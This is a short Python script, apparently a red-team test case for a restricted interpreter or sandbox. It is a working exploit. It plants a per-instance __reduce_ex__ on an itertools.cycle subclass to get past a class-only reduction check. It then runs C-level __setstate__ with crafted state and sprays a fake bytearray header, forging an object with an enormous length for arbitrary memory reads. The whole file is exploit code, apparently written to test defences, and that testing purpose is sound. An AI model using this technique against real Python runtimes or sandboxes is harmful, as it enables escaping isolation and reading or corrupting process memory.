# technique: copy finds __reduce_ex__ by ordinary lookup, the instance dict first: one put there (vars()) on a user itertools.cycle subclass passed the class-only check and ran the C __setstate__ with the user's state (case 572 reopened; red-team pass 76)
# expect: any
import itertools, copy
BA_TYPE = 0x1001d60
class T(tuple): pass
def q(v): return v.to_bytes(8, "little")
fake = q(1 << 40) + q(BA_TYPE) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0)
fake = fake + b"\0" * (79 - len(fake))
X = bytes(range(40))
X = X + b""
saved = [None, None, None, None, None, None, X, None]
del X
class C(itertools.cycle):
    pass
x = C([])
# the reduction lives in the instance dict: _python_reduction() only looks at the class's MRO
vars(x)["__reduce_ex__"] = lambda proto: (C, ([],), T((saved, 1)))
c = copy.copy(x)
for i in range(6): next(c)
del saved[5:]
spray = bytearray(fake)
ba = next(c)
(type(ba).__name__, len(ba) == 1 << 62, bytes(ba[0x400000:0x400004]))
